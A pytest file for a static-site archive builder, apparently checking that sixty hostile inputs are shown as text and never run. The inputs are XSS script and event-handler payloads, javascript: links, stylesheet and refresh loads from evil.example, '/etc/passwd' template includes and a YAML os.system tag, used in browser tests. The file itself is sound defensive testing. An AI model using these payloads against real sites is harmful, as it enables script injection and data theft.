"""Sixty hostile captures go the whole way, from the file as it was saved to the page: nothing of them runs, all of it can be read.

Each stands in the body of a text capture, of a Markdown capture or of a saved page, and once more as title, author, tag,
source, key point and caption of an article. What is inside a script or a style of a saved page was never text.
"""

import html
import json
import re

import pytest
from playwright.sync_api import expect

MARK = "owned"
"""What runs sets `window.owned`, asks another host, or opens a dialog."""

SCRIPTS = (
    "<script>window.owned=1</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>window.owned=1</script>", "</script><script>window.owned=1</script>",
    "<scr<script>ipt>window.owned=1</scr</script>ipt>", "<!--><script>window.owned=1</script>-->", "</title><script>window.owned=1</script>", "</textarea><script>window.owned=1</script>",
    "<noscript><p title=\"</noscript><script>window.owned=1</script>\">", "<script type=module>window.owned=1</script>", "]]><script>window.owned=1</script>", "</style><script>window.owned=1</script>",
)  # fmt: skip
HANDLERS = (
    "<img src=x onerror=window.owned=1>", "\"><img src=x onerror=window.owned=1>", "' onmouseover='window.owned=1", "\" autofocus onfocus=\"window.owned=1", "<body onload=window.owned=1>",
    "<details open ontoggle=window.owned=1>", "<video><source onerror=window.owned=1>", "<input autofocus onfocus=window.owned=1>", "<marquee onstart=window.owned=1>",
    "<a onclick=window.owned=1>click</a>", "<p style=animation-name:x onanimationstart=window.owned=1>", "<iframe src=\"javascript:parent.owned=1\">", "<iframe srcdoc=\"<script>parent.owned=1</script>\">",
)  # fmt: skip
VECTORS = (
    "<svg onload=window.owned=1>", "<svg><script>window.owned=1</script></svg>", "<svg><a xlink:href=\"javascript:window.owned=1\"><text>x</text></a></svg>", "<svg><animate onbegin=window.owned=1>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.owned=1>", "<svg></p><style><a id=\"</style><img src=1 onerror=window.owned=1>\">",
)  # fmt: skip
STYLES = (
    "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<p style=\"background:url(//evil.example/x.png)\">", "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"position:fixed;inset:0;background:#fff\">",
)  # fmt: skip
FRAMES = (
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<base href=//evil.example>", "<form action=//evil.example><button>go</button></form>", "<object data=//evil.example></object>",
    "<embed src=//evil.example>", "<link rel=icon href=//evil.example/x.ico>",
)  # fmt: skip
LINKS = (
    "[link](javascript:window.owned=1)", "[link](JaVaScRiPt:window.owned=1)", "[link](java\tscript:window.owned=1)", "[link](&#106;avascript:window.owned=1)", "[link](data:text/html,<script>opener.owned=1</script>)",
    "[link](vbscript:window.owned=1)", "<javascript:window.owned=1>", "![picture](javascript:window.owned=1)", "[link](//evil.example \"onmouseover=window.owned=1\")",
)  # fmt: skip
INJECTIONS = (
    "{{ 7*7 }}{{ config.items() }}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "title: \"x\"\naccess: open", "--- !!python/object/apply:os.system ['true']", "&a [*a, *a]",
    "<mark><img src=x onerror=window.owned=1></mark>", "\u202e<img src=x onerror=window.owned=1>", "%(names)s {n} {words}",
)  # fmt: skip
ATTACKS = SCRIPTS + HANDLERS + VECTORS + STYLES + FRAMES + LINKS + INJECTIONS


def test_there_are_sixty() -> None:
    assert len(set(ATTACKS)) == 60


def as_title(attack: str) -> str:
    return " ".join(attack.split())


def text_capture(number: int, attack: str) -> str:
    return f"Hostile text {number} on the quay\n\nBy Imogen Starling\n\nThe harbour office received a letter this week, and it said the following words.\n\n{attack}\n\nNobody at the office knew what to make of it, and so it was filed with the others.\n"


def markdown_capture(number: int, attack: str) -> str:
    fenced = attack.replace("\n", " ").replace("```", "")
    return f"---\ntitle: Hostile Markdown {number}\n---\n\nThe letter said {attack}\n\n# {fenced}\n\n> {fenced}\n\n```\n{attack}\n```\n"


def saved_page(number: int, attack: str) -> str:
    shown = html.escape(attack)
    return (
        f"<!doctype html><html lang=en><head><title>Hostile page {number}</title></head><body><article><h1>Hostile page {number}</h1>"
        f"<p>The harbour office received a letter this week, and it said the following words.</p><p>As text: {shown}</p>"
        f"<p>Raw: {attack} and then nothing more was heard of the matter on the quay.</p>"
        "<p>Nobody at the office knew what to make of it, and so it was filed with the others.</p></article></body></html>"
    )


def article(number: int, attack: str) -> str:
    plain = json.dumps(as_title(attack))
    lines = [
        f"title: {json.dumps(f'Hostile {as_title(attack)}')}", f"subtitle: {plain}", f"author: [{plain}]", f"tags: [{plain}]", f"date: 2022-0{number % 9 + 1}-11", f"slug: hostile-{number}",
        f"sources: [{{name: {plain}, role: origin}}]", f"summary: [{plain}]", f"image_credits: {plain}", f"author_note: {plain}", f"rights: {plain}", f"mood: {plain}",
    ]  # fmt: skip
    return (
        "---\n"
        + "\n".join(lines)
        + f"\n---\n\n{attack}\n\n![{as_title(attack).replace(']', '')}]()\n\n```\n{attack}\n```\n"
    )


@pytest.fixture(scope="module")
def captured(tmp_path_factory, request):
    archive = request.getfixturevalue("archive_at")(tmp_path_factory.mktemp("captured"))
    for number, attack in enumerate(ATTACKS):
        archive.write(f"content/hostile-{number}.md", article(number, attack))
        name, make = (("txt", text_capture), ("md", markdown_capture), ("html", saved_page))[number % 3]
        archive.write(f"seeds/hostile-{number}.{name}", make(number, attack))
    archive.build(search=True)
    return archive


def shown(page: str) -> str:
    """The text of a page's main part, as a reader sees it."""
    main = re.sub(r"<(script|style)\b.*?</\1>", " ", page.partition("<main")[2], flags=re.S)
    return html.unescape(re.sub(r"<[^>]*>", "", main))


@pytest.mark.parametrize("number", range(len(ATTACKS)))
def test_an_attack_is_readable_as_text(number: int, captured) -> None:
    page = captured.page(f"2022/hostile-{number}/index.html")
    attack = ATTACKS[number]
    text = shown(page)
    assert text.count(as_title(attack)) >= 6
    assert attack in text
    for danger in re.findall(r"<(?!/)[^>]*>", re.sub(r'="[^"]*"', '=""', page)):
        assert not re.search(
            r"\son\w+\s*=|<(iframe|object|embed|base|style|math|video|marquee)|srcdoc", danger, re.I
        ), danger


def test_every_capture_became_an_article(captured) -> None:
    assert captured.done.imported.problems == ()
    assert captured.done.articles == 2 * len(ATTACKS)


@pytest.mark.browser
def test_nothing_runs_on_any_page_of_the_site(captured, visitor, serve) -> None:
    every = [path.removesuffix("index.html") for path in sorted(captured.published()) if path.endswith(".html")]
    listings = [path for path in every if path.startswith(("authors/", "sources/", "tags/"))]
    pages = [path for path in every if path not in listings or path.count("/") == 1] + listings[::5]
    assert len(pages) > 2 * len(ATTACKS)
    with serve(captured.site) as address:
        guest = visitor(address)
        for path in pages:
            guest.go(path)
            assert guest.page.evaluate(f"typeof window.{MARK}") == "undefined", path
            assert guest.page.url.startswith(address), path


@pytest.mark.browser
def test_nothing_runs_when_a_reader_uses_what_is_there(captured, visitor, serve) -> None:
    """Links are pointed at, boxes are opened, everything is focused."""
    with serve(captured.site) as address:
        guest = visitor(address)
        for number in range(0, len(ATTACKS), 4):
            guest.go(f"2022/hostile-{number}/")
            guest.page.evaluate(
                "for (const e of document.querySelectorAll('main *')) { e.focus?.(); for (const kind of ['mouseover', 'focus', 'click', 'toggle', 'error', 'load'])"
                " if (!e.closest('a, summary, button')) e.dispatchEvent(new Event(kind, {bubbles: true})); }"
            )
            assert guest.page.evaluate(f"typeof window.{MARK}") == "undefined", number


@pytest.mark.browser
def test_the_search_page_shows_attacks_as_text(captured, visitor, serve) -> None:
    with serve(captured.site) as address:
        for attack in ATTACKS[::6]:
            guest = visitor(address).go("search/?q=" + guest_encoded(f"Hostile {as_title(attack)}"))
            expect(guest.page.get_by_role("status")).not_to_be_empty()
            guest.page.wait_for_selector(".result")
            assert guest.page.evaluate(f"typeof window.{MARK}") == "undefined", attack


def guest_encoded(text: str) -> str:
    from urllib.parse import quote

    return quote(text, safe="")
